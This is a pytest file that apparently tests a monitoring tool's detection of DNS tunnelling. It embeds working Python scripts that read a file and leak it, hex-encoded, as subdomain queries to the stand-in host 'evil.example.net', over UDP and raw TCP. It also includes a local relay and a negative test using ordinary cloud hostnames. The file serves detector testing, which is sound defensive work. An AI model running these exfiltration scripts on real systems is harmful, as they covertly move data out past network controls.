# SPDX-License-Identifier: MIT OR GPL-2.0-only
"""DNS as a way out: what a tainted process asks for, through whichever resolver. The name server tells what it was asked."""
import os

import pytest

import work
from monitor import wait_for
from test_names import PYTHON, SIZE, names, policy, run  # noqa: F401: fixtures

pytestmark = pytest.mark.one_set

TUNNEL = """
import socket, sys
data = open(sys.argv[1], "rb").read()[:int(sys.argv[4])]
for i in range(0, len(data), 30):
    try:
        socket.getaddrinfo(data[i:i + 30].hex() + "." + sys.argv[3], 80, family=socket.AF_INET, type=socket.SOCK_STREAM)
    except socket.gaierror:
        pass
print(len(data))
"""
RELAY = """
import socket, sys
s = socket.socket(type=socket.SOCK_DGRAM)
s.bind(("127.0.0.53", 53))
up = socket.socket(type=socket.SOCK_DGRAM)
up.connect((sys.argv[1], 53))
print("ready", flush=True)
while True:
    data, whom = s.recvfrom(4096)
    up.send(data)
    s.sendto(up.recv(4096), whom)
"""


@pytest.fixture
def noise(dataset, policy):
    """What is read is no text, so that its hex is as long as can be."""
    with open(f"{dataset}/f", "wb") as f:
        f.write(os.urandom(SIZE))
    return f"{dataset}/f"


def tunnel(tmp, noise, domain, n):
    with open(f"{tmp}/tunnel.py", "w", encoding="utf-8") as f:
        f.write(TUNNEL)
    return f"exec {PYTHON} {tmp}/tunnel.py {noise} x {domain} {n}"


@pytest.mark.parametrize("relayed", [False, True], ids=["direct", "local-resolver"])
def test_tunnel(sluice, policy, names, run, tmp, job, noise, relayed):
    d = names({})
    m = sluice(policy(d))
    server, relay = d, None
    if relayed:
        with open(f"{tmp}/relay.py", "w", encoding="utf-8") as f:
            f.write(RELAY)
        relay = work.Process(tmp, "relay", [PYTHON, f"{tmp}/relay.py", d.ip])
        relay.wait_said("ready")
        server = type("Local", (), {"ip": "127.0.0.53"})
    run(server, tunnel(tmp, noise, "evil.example.net", 3001))
    wait_for("the finding", lambda: [f for f in m.now("findings")["items"] if f["rule"] == "dns.tunnel"])
    asking = [p for p in m.show("processes")["items"] if p["dns"] and p["bytes"]["read"]]
    assert asking and asking[0]["dns"]["questions"] >= 101 and asking[0]["dns"]["names"] >= 90, asking
    r = m.stop()
    if relay:
        relay.kill()
    f = r.finding("dns.tunnel")
    asked = [name for name in d.asked() if name.endswith(".evil.example.net")]
    assert len(set(asked)) == 101
    assert "example.net" in f["title"]
    assert f["job"] == job.name and f["dataset"] == "set"
    assert f["severity"] in ("medium", "high", "critical")
    assert f["leak_bound"] >= sum(len(name) - len(".evil.example.net") for name in set(asked)) == 6002
    assert f["leak_bound"] <= 2 * sum(len(name) for name in asked)
    assert f["remote"]["addr"] == server.ip and f["remote"]["port"] == 53
    assert f["chain"][0]["via"] == "read" and f["chain"][-1]["via"] == "dns"


STREAM = """
import socket, struct, sys
data = open(sys.argv[2], "rb").read()[:int(sys.argv[3])]
names = 80 * ["www.example.com"] + [data[i:i + 30].hex() + ".evil.example.net" for i in range(0, len(data), 30)]
stream = b""
for name in names:
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    question = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + bytes([0, 0, 1, 0, 1])
    stream += struct.pack("!H", len(question)) + question
c = socket.create_connection((sys.argv[1], 53))
c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
step = int(sys.argv[4]) or len(stream)
for i in range(0, len(stream), step):
    c.sendall(stream[i:i + step])
f = c.makefile("rb")
for name in names:
    f.read(struct.unpack("!H", f.read(2))[0])
"""


@pytest.mark.parametrize("step", [0, 7], ids=["at-once", "in-pieces"])
def test_tunnel_over_tcp(sluice, policy, names, run, tmp, job, noise, step):
    """Questions of one connection, all in one packet or each in many, behind others that carry nothing."""
    d = names({})
    m = sluice(policy(d))
    with open(f"{tmp}/stream.py", "w", encoding="utf-8") as f:
        f.write(STREAM)
    run(d, f"exec {PYTHON} {tmp}/stream.py {d.ip} {noise} 3001 {step}")
    wait_for("the finding", lambda: [f for f in m.now("findings")["items"] if f["rule"] == "dns.tunnel"])
    f = m.stop().finding("dns.tunnel")
    asked = [name for name in d.asked() if name.endswith(".evil.example.net")]
    assert len(asked) == len(set(asked)) == 101
    assert f["leak_bound"] >= sum(len(name) - len(".evil.example.net") for name in asked) == 6002
    assert f["leak_bound"] <= 2 * sum(len(name) for name in asked)
    assert "asked for 101 names below example.net" in f["title"]
    assert f["job"] == job.name


ASK = """
import socket, sys
open(sys.argv[1], "rb").read()
for host in sys.argv[2:]:
    socket.gethostbyname(host)
"""


def test_ordinary_questions(sluice, policy, names, run, tmp, noise):
    """A tainted process that asks for some dozens of hosts, buckets and hashed names as they are."""
    hosts = [f"node-{i}.cluster.local" for i in range(60)] + [f"d{i:013x}.cloudfront.net" for i in range(20)] + \
        [f"my-bucket-{i}.s3.eu-west-1.amazonaws.com" for i in range(60)] + \
        [f"ip-10-0-{i}-{j}.ec2.internal" for i in range(8) for j in range(8)]
    d = names({h: ["203.0.113.9"] for h in hosts})
    m = sluice(policy(d))
    with open(f"{tmp}/ask.py", "w", encoding="utf-8") as f:
        f.write(ASK)
    run(d, f"exec {PYTHON} {tmp}/ask.py {noise} " + " ".join(hosts))
    r = m.stop()
    assert len(set(d.asked())) >= len(hosts)
    assert r.findings("dns.tunnel") == {}
    assert r.findings() == {}
